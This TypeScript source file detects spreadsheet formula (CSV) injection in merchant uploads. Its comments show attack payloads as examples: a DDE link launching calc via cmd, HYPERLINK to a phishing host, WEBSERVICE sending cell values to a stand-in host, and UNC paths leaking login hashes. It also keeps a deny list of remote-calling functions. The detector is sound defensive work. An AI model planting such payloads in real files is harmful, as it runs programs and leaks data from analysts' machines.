/**
 * Does a CSV carry spreadsheet formulas ("CSV injection")? Analysts open the merchants' CSV files
 * in a spreadsheet, which runs a cell that starts with `=` (or `+`, `-`, `@` before a function
 * call or a DDE link `cmd|' /C calc'!A0`): `=HYPERLINK("http://golpe…")` leads them
 * to a phishing page, a DDE cell may start a program. Ordinary exports never hold one: negative
 * values ("-15,00", "-R$ 10,00"), phone numbers ("+55 11 98765-4321") and handles ("@lojadaana")
 * are data, and stay accepted. Work is linear in the text.
 */

import { INVISIBLE_CHARACTER_CLASS } from '../text';

/**
 * Blanks a reader may trim before a sign, but line breaks (which end a row): the space, the no-break
 * spaces, the form feed and Unicode's other spaces (en, em, thin… U+2000–U+200A, the line and
 * paragraph separators, NEL). No spreadsheet is known to run '\u2002=HYPERLINK(…)', none is known not to.
 */
const BLANKS = ' \\u00a0\\f\\u0085\\u1680\\u2000-\\u200a\\u2028\\u2029\\u202f\\u205f';
/**
 * Where a cell may start: a line break or a separator, else the text's start (tried in that order: a
 * file that opens with a separator, ',=HYPERLINK(…)' or '\t=…', has its second cell read), then quotes (an opening one;
 * or an empty quoted text before the sign, '""=HYPERLINK(…)', which readers join to what follows it
 * in their own ways) and what a spreadsheet trims or a reader never sees (spaces, a zero-width
 * space), in any order: " =HYPERLINK(…)" runs, and so does '" "=HYPERLINK(…)', a quoted space joined
 * to it.
 */
const CELL_START = new RegExp(`(?:[\\r\\n,;\\t]|^)["${BLANKS}${INVISIBLE_CHARACTER_CLASS}]*`, 'gu');

/**
 * The other forms of `=`, `+`, `-`, `@` a spreadsheet may read as them: the full-width signs of East
 * Asian locales of Excel and the small forms (﹦ ﹢ ﹣ ﹫) Unicode's compatibility mapping reads as them.
 * The upload check reads them as the signs; an export (the monthly report's CSV) must quote them.
 */
export const SIGN_FORMS: Readonly<Record<string, string>> = {
  '\uff1d': '=',
  '\uff0b': '+',
  '\uff0d': '-',
  '\uff20': '@',
  '\ufe66': '=',
  '\ufe62': '+',
  '\ufe63': '-',
  '\ufe6b': '@',
};

/**
 * Full-width forms (U+FF01–U+FF5E) and the ideographic space, which East Asian locales of a
 * spreadsheet may read as their ASCII forms: not only the signs ('＝', '－') but the names and
 * brackets after them ('-ＷＥＢＳＥＲＶＩＣＥ(…)', '-webservice（…)', '＝ＨＹＰＥＲＬＩＮＫ'). Read as
 * ASCII, one code unit for one (so a position means the same in both). The full-width quote, comma
 * and semicolon stay as they are: no CSV reader splits or quotes a cell at them, and read as ASCII
 * they would hide a call inside a string or end a cell's reading before it.
 */
const WIDE = /[\uff01-\uff5e\u3000\ufe62\ufe63\ufe66\ufe6b]/;
const KEPT_WIDE = new Set([0xff02, 0xff0c, 0xff1b]);
/** The small forms of the signs, by code unit (the full-width ones are read by their offset below). */
const SMALL_SIGNS: Readonly<Record<number, number>> = Object.fromEntries(
  Object.entries(SIGN_FORMS)
    .filter(([form]) => form.charCodeAt(0) < 0xff01)
    .map(([form, sign]) => [form.charCodeAt(0), sign.charCodeAt(0)]),
);

function narrowed(text: string): string {
  if (!WIDE.test(text)) return text;
  // One code unit at a time into an array, decoded at once (a replace callback per character is slow on 10 MB).
  const units = new Uint16Array(text.length);
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    units[i] =
      c === 0x3000 ? 0x20 : c >= 0xff01 && c <= 0xff5e && !KEPT_WIDE.has(c) ? c - 0xfee0 : (SMALL_SIGNS[c] ?? c);
  }
  return new TextDecoder('utf-16le').decode(units);
}

/**
 * A function call (`HYPERLINK(`, `_xlfn.WEBSERVICE(`, pt-BR Excel's `SERVIÇOWEB(`): a name, of any
 * letters, then "(" — after spaces too: Excel's grammar has none there, LibreOffice reads
 * `HYPERLINK ("…")` as the call.
 */
const CALL = '[\\p{L}_][\\p{L}\\d_.]*[ \\u00a0]*\\(';

/**
 * What makes `+`, `-` or `@` at a cell's start a formula: after numbers and operators, a function
 * call as spreadsheets write one (`+SUM(`, `@SUM(`: CALL_AT) or a DDE link (`-2+3+cmd|`). A name and
 * a space before a bracket ("- Frete (ida)") is text. The run of numbers and operators stays in its cell (a comma only as
 * a decimal one, no line break or other separator), so no two cells' runs overlap: linear work.
 * The run is read a piece between decimal commas at a time (SIGN_RUN, a plain class: no stack), then
 * the call tried where it ends: one expression `(?:[…]|,(?=\d))*` kept a backtracking entry per
 * character and overflowed V8's stack past ~9 MB of one cell ("-1111…", a 10 MB upload threw).
 * Nothing of the run can start a call, so its longest reading is the only one to try.
 */
const SIGN_RUN = /[\d .+\-*/^=@]*/y;
/**
 * A call right after a sign and its run: a function name in capitals, digits, "_" and "." (how
 * spreadsheets write them: `SUM(`, `LOG10(`, `_xlfn.WEBSERVICE(`), or a DDE link in any case (`cmd|`,
 * with its item: DDE_ITEM). Found here past the run however long, and by cellActs in its first CELL_CHARS.
 * A word of a merchant's list before a bracket ("- produto(s) sem estoque", "-cancelado(a)",
 * "+Vida(Natural)", "@loja(oficial)") is text: a spreadsheet that still reads one as a formula calls an
 * unknown name, which does nothing — and what would act (a remote call, a link, DDE) is found
 * anywhere in the cell, in any case, by cellActs.
 */
const CALL_AT = /(?:[A-Z_][A-Z\d_.]*\(|[A-Za-z_][\w.]*\|)/y;

function formulaAfterSign(text: string, sign: number): boolean {
  let at = sign + 1;
  for (;;) {
    SIGN_RUN.lastIndex = at;
    SIGN_RUN.test(text);
    at = SIGN_RUN.lastIndex;
    const next = text.charCodeAt(at + 1);
    if (text[at] !== ',' || !(next >= 0x30 && next <= 0x39)) break;
    at++;
  }
  CALL_AT.lastIndex = at;
  if (!CALL_AT.test(text)) return false;
  const open = CALL_AT.lastIndex;
  if (text[open - 1] === '|') return itemInCell(text, open);
  return !closesBeforeWords(text, open) && !nameInBracketEndsCell(text, open);
}

/**
 * Whether a DDE link's "!" and item follow the bar at `at` in its cell (read to any separator: no two
 * readings overlap). "-P|M|G" has none: text.
 */
function itemInCell(text: string, at: number): boolean {
  for (let i = at; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c === 0x3b || c === 0x2c || c === 0x09 || c === 0x0d || c === 0x0a) return false;
    if (c === 0x21 && ITEM_START.test(text[i + 1] ?? '')) return true;
  }
  return false;
}

/**
 * Words in the bracket: a spreadsheet would read them as names, and a CSV defines none (no
 * reference, number or string either): "-CAMISETA(P)", "- 2 call(s)", "+ 3 image(s)" compute nothing.
 */
const NAMES_ONLY = / *\p{L}[\p{L} ]*\)/uy;
/** Where a cell ends: its text's end, a separator, a line break or a closing quote. */
const CELL_END = /(?:$|[;,\t\r\n"])/y;

/** "-CAMISETA(P)": a word in capitals and a size in brackets that end the cell — a list's item. */
function nameInBracketEndsCell(text: string, open: number): boolean {
  NAMES_ONLY.lastIndex = open;
  if (!NAMES_ONLY.test(text)) return false;
  CELL_END.lastIndex = NAMES_ONLY.lastIndex;
  return CELL_END.test(text);
}

/** Space, then a letter: a word of text after a bracket. */
const WORD_AFTER = /[ \u00a0]+\p{L}/uy;

/**
 * Whether the bracket opened just before `at` closes in its cell and a word follows it: a list in
 * capitals ("- PRODUTO(S) SEM ESTOQUE", "+ BRINDE(S) NA CAIXA") is text, a formula goes on with an
 * operator or ends. Reading stops at a separator, a quote or a line break (then: not text), so no
 * two cells' readings overlap.
 */
function closesBeforeWords(text: string, at: number): boolean {
  const limit = Math.min(text.length, at + CELL_CHARS);
  let depth = 1;
  for (let i = at; i < limit; i++) {
    const c = text.charCodeAt(i);
    if (c === 0x28) depth++;
    else if (c === 0x29) {
      if (--depth > 0) continue;
      WORD_AFTER.lastIndex = i + 1;
      return WORD_AFTER.test(text);
    } else if (c === 0x3b || c === 0x2c || c === 0x09 || c === 0x0d || c === 0x0a || c === 0x22) return false;
  }
  return false;
}

export function csvHasFormula(csv: string): boolean {
  const text = narrowed(csv);
  for (const match of text.matchAll(CELL_START)) {
    const at = (match.index ?? 0) + match[0].length;
    const first = text[at];
    if (first === '=') return true;
    if (first !== '+' && first !== '-' && first !== '@') continue;
    // An odd number of quotes opens a quoted text; an even one ('""-2+cmd|…') is empty quoted text and
    // the cell goes on unquoted (read to its separator: a doubled quote never extends a reading).
    const quotes = match[0].split('"').length - 1;
    if (formulaAfterSign(text, at) || cellActs(text, at, quotes % 2 === 1)) return true;
  }
  return false;
}

/** What a spreadsheet keeps of one cell (Excel's limit): the rest of a longer one is never run. */
const CELL_CHARS = 32_767;
/** The longest text constant a formula holds (Excel's limit): a longer "…" is no formula's. */
const STRING_CHARS = 255;

/**
 * Whether the cell that starts at `at` with a sign acts anywhere in it (callsAny, CSV_ACTING): a
 * spreadsheet runs the whole cell as a formula, so a DDE link, a WEBSERVICE call or a HYPERLINK to a
 * phishing page after a bracket, a cell reference, a string or a space ("-(1)+cmd|' /C calc'!A0",
 * "+(WEBSERVICE(…&A1))", "-A1+cmd|…", '+"x"&cmd|…', '- HYPERLINK("http://golpe…")') runs as surely
 * as after numbers. A name and a bracket in text ("- produto(s) sem estoque") is no such call.
 * The cell ends, at CELL_CHARS at the latest, at its closing quote when quoted ("" is a quote in
 * it), else at the next separator or line break (a comma before a digit is a decimal one, as in
 * formulaAfterSign; a comma in a formula's string literal is text). Loops, not a regular expression:
 * no backtracking stack on a long cell; and most signed cells are values ("-15,00", "+55 11…"), which without a bracket or a bar call nothing.
 */
function cellActs(text: string, at: number, quoted: boolean): boolean {
  const limit = Math.min(text.length, at + CELL_CHARS);
  let end = at + 1;
  if (quoted) {
    for (;;) {
      const q = text.indexOf('"', end);
      end = q < 0 || q >= limit ? limit : q;
      if (end === limit || text[end + 1] !== '"') break;
      end += 2;
    }
  } else {
    let marked = false;
    // Where the string literal the reading is in opened (-1: none). A comma in it is no separator to
    // Excel in pt-BR ('+"a,b"&SERVIÇOWEB(…)': ';' separates its cells, ',' is text there); past
    // STRING_CHARS the literal is no formula's, and reading on from it would re-read other cells.
    let opened = -1;
    for (; end < limit; end++) {
      const c = text.charCodeAt(end);
      if (c === 0x3b || c === 0x09 || c === 0x0d || c === 0x0a) break;
      if (c === 0x22) opened = opened < 0 ? end : -1;
      else if (opened >= 0 && end - opened > STRING_CHARS) opened = -1;
      if (c === 0x2c && opened < 0 && !isDigit(text.charCodeAt(end + 1))) break;
      if (c === 0x28 || c === 0x7c || c === 0x21 || c === 0x23) marked = true;
    }
    if (!marked) return false;
  }
  const cell = text.slice(at, end);
  if (quoted && !/[(|!#]/.test(cell)) return false;
  const formula = quoted ? cell.replaceAll('""', '"') : cell;
  return callsAny(formula, CSV_ACTING, READ_LABELS) || readsAnotherFile(formula);
}

/**
 * A reference into another file, which a spreadsheet opens or fetches when it updates its links, and
 * a UNC path sends the Windows login's hash to a server: Excel's `[book]sheet!A1` (in quotes with
 * its path, `'\\golpe\s\[x.xlsx]P'!A1`), a UNC path before a "!" item, LibreOffice's
 * `'file:///…'#$Plan1.A1` or `'https://…'#$Plan1.A1`. Outside the formula's strings, as a
 * call is; "!" needs an item after it (DDE_ITEM), so "- 1/2 dúzia! (promo)" is text.
 */
const LIBREOFFICE_LINK = /'#\$?[\p{L}_]/u;

function readsAnotherFile(formula: string): boolean {
  const code = formula.replace(FORMULA_STRING, '""');
  if (LIBREOFFICE_LINK.test(code)) return true;
  const close = code.indexOf(']');
  const unc = code.indexOf('\\\\');
  const from = close >= 0 && (unc < 0 || close < unc) ? close : unc;
  if (from < 0) return false;
  DDE_ITEM.lastIndex = from;
  return DDE_ITEM.test(code);
}

const isDigit = (code: number) => code >= 0x30 && code <= 0x39;

/**
 * Functions that reach outside the workbook when it is calculated (on open): fetch a URL and send
 * cell values in it (WEBSERVICE, FILTERXML over it, IMAGE, Google Sheets' IMPORT*), call a program
 * or a library (RTD, CALL, REGISTER), or talk to one (LibreOffice's DDE("cmd";"/C calc";"x")).
 * HYPERLINK is not here: it waits for a click, as an ordinary link.
 */
const REMOTE_FUNCTIONS: ReadonlySet<string> = new Set([
  'DDE',
  'WEBSERVICE',
  'FILTERXML',
  'IMAGE',
  'RTD',
  'CALL',
  'REGISTER',
  'REGISTER.ID',
  'IMPORTXML',
  'IMPORTDATA',
  'IMPORTHTML',
  'IMPORTFEED',
  'IMPORTRANGE',
]);
/**
 * What a CSV cell may not call either: a link, clicked on the analyst's sheet as one of ours. In an
 * XLSX a HYPERLINK is an ordinary link; a CSV export holds values only. And the names Excel in pt-BR
 * reads in a CSV it opens (an XLSX stores formulas in English): SERVIÇOWEB, FILTROXML, HIPERLINK.
 * (IMAGE's, IMAGEM, is left out: "- 2 imagem(ns) anexada(s)" is a merchant's list.)
 */
const CSV_ACTING: ReadonlySet<string> = new Set([
  ...REMOTE_FUNCTIONS,
  'HYPERLINK',
  'SERVIÇOWEB',
  'FILTROXML',
  'HIPERLINK',
]);
/**
 * What LibreOffice runs (Excel and Google Sheets do not have these names or read no labels): with
 * its "find column and row labels" on, a word in a formula may be a column's heading, read as the
 * cells under it — `-WEBSERVICE(url)` under a heading "url" sends what is below it. Called with
 * words only, these still act; the others (`call(s)`, `image(s)`) read undefined names.
 */
const READ_LABELS: ReadonlySet<string> = new Set([
  'DDE',
  'WEBSERVICE',
  'FILTERXML',
  'HYPERLINK',
  'SERVIÇOWEB',
  'FILTROXML',
  'HIPERLINK',
]);
/** Each call, found where a name starts (tried from each letter of a long name, it was quadratic). */
const CALLS = new RegExp(`(?<![\\p{L}\\d_.])${CALL}`, 'gu');
/**
 * A DDE link, `app|topic!item` (Microsoft's syntax for a remote reference; each part may be quoted:
 * `'cmd'|' /C calc'!A0`, `"cmd"|…`): a bar, then a "!" before an item. A bar with no item after it
 * is text ("- tamanhos P|M|G").
 */
const ITEM = "[\\p{L}\\d_$']";
const DDE_ITEM = new RegExp(`!${ITEM}`, 'gu');
const ITEM_START = new RegExp(ITEM, 'u');
/** A string literal of a formula ("" is a quote inside it): what it says is not called. */
const FORMULA_STRING = /"(?:[^"]|"")*"/g;

/**
 * Whether a spreadsheet formula (an XLSX cell's, without its "=") reaches outside the workbook: a DDE
 * link (`cmd|' /C calc'!A0`, a program started) or a REMOTE_FUNCTIONS call (`WEBSERVICE("http://golpe/?"&A2)`
 * sends the cell). Calls read as CSV cells are (CALL_OR_DDE); `SUM(`, `HYPERLINK(` are ordinary.
 */
export function formulaReachesOut(formula: string): boolean {
  // A workbook defines names: a call of words only ('IMAGE(logo)') may read a URL from one.
  return callsAny(formula, REMOTE_FUNCTIONS, REMOTE_FUNCTIONS);
}

/**
 * Whether a formula holds a DDE link or calls one of `names` (any case, `_xlfn.` aside), outside its
 * strings. A call of words only (NAMES_ONLY) counts for the names in `onWords` alone: where no name is
 * defined (a CSV), the others read undefined names and act on nothing.
 */
function callsAny(formula: string, names: ReadonlySet<string>, onWords: ReadonlySet<string>): boolean {
  const code = formula.replace(FORMULA_STRING, '""');
  const bar = code.indexOf('|');
  if (bar >= 0) {
    DDE_ITEM.lastIndex = bar;
    if (DDE_ITEM.test(code)) return true;
  }
  for (const match of code.matchAll(CALLS)) {
    const name = match[0]
      .slice(0, -1)
      .trimEnd()
      .toUpperCase()
      .replace(/^_XL(?:FN|WS)\./, '');
    if (!names.has(name)) continue;
    NAMES_ONLY.lastIndex = (match.index ?? 0) + match[0].length;
    if (!NAMES_ONLY.test(code) || onWords.has(name)) return true;
  }
  return false;
}
